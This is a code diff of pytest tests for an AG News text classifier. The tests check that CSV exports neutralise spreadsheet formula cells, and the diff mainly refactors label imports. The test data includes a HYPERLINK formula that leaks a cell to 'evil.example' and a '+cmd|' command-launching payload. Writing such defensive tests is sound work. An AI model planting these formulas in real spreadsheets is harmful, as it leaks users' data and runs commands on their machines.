@@ -26,9 +26,10 @@ import pytest
 
 from agnews import cli
 from agnews.comparison import write_comparison
-from agnews.labels import LABELS
+from agnews.dataset.ag_news import AG_NEWS_CLASSES as LABELS
 from agnews.serving import predict_file as predict_file_module
 from agnews.serving.csv_batch import classify_csv
+from agnews.text import clean_text
 from agnews.ui.common import temporary_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -102,14 +103,14 @@ def test_page_exports_neutralise_formula_cells() -> None:
 
 def test_batch_file_neutralises_formula_cells_unless_raw(tmp_path: Path) -> None:
     upload = hostile_upload(tmp_path)
-    safe = classify_csv(upload, tmp_path / "safe.csv", fake_model)
+    safe = classify_csv(upload, tmp_path / "safe.csv", fake_model, classes=LABELS)
     assert safe.classified == 2
     header, first, second = read_back(tmp_path / "safe.csv")
     assert header[:3] == ["text", "'@source", "score"]
     assert first[:3] == ["'" + FORMULA, "'+cmd|' /C calc'!A0", "-0.5"]
     assert second[:3] == ["Oil prices climb", "'\t=1+1", "3"]
 
-    classify_csv(upload, tmp_path / "raw.csv", fake_model, raw_cells=True)
+    classify_csv(upload, tmp_path / "raw.csv", fake_model, classes=LABELS, raw_cells=True)
     assert read_back(tmp_path / "raw.csv")[1][:2] == [FORMULA, "+cmd|' /C calc'!A0"]
 
 
@@ -119,6 +120,7 @@ class FakeClassifier:
     def __init__(self, _run: object, backend: str) -> None:
         self.name = f"{backend} (fake)"
         self.predict_many = fake_model
+        self.clean = clean_text
 
 
 def test_predict_file_neutralises_formula_cells_unless_raw(
@@ -126,7 +128,11 @@ def test_predict_file_neutralises_formula_cells_unless_raw(
 ) -> None:
     monkeypatch.setattr(predict_file_module, "Classifier", FakeClassifier)
     run = SimpleNamespace(
-        name="fake", fact=lambda fact: None, manifest=SimpleNamespace(parts={}), model_path=tmp_path / "model"
+        name="fake",
+        classes=LABELS,
+        fact=lambda fact: None,
+        manifest=SimpleNamespace(parts={}),
+        model_path=tmp_path / "model",
     )
     upload = hostile_upload(tmp_path)
     predict_file_module.predict_file(run, upload, tmp_path / "safe.csv", chunk_rows=1, progress=False)
@@ -195,7 +201,7 @@ PAGE_SCRIPT = textwrap.dedent(
     import pandas as pd
 
     import agnews.present.report as report
-    from agnews.labels import LABELS
+    from agnews.dataset.ag_news import AG_NEWS_CLASSES as LABELS
     from agnews.rundir.parts import Manifest
     from agnews.ui import common, file_upload, overview
 
@@ -225,7 +231,7 @@ PAGE_SCRIPT = textwrap.dedent(
     def probs(texts, _progress=None):
         return np.full((len(texts), len(LABELS)), 1 / len(LABELS))
 
-    predictor = SimpleNamespace(model_loaded=True, probabilities_many=probs)
+    predictor = SimpleNamespace(model_loaded=True, probabilities_many=probs, classes=LABELS, clean=str.strip)
     with gr.Blocks() as demo:
         file_upload.build(predictor)
     (classify,) = [d.fn for d in demo.fns.values() if d.api_name == "classify_csv"]
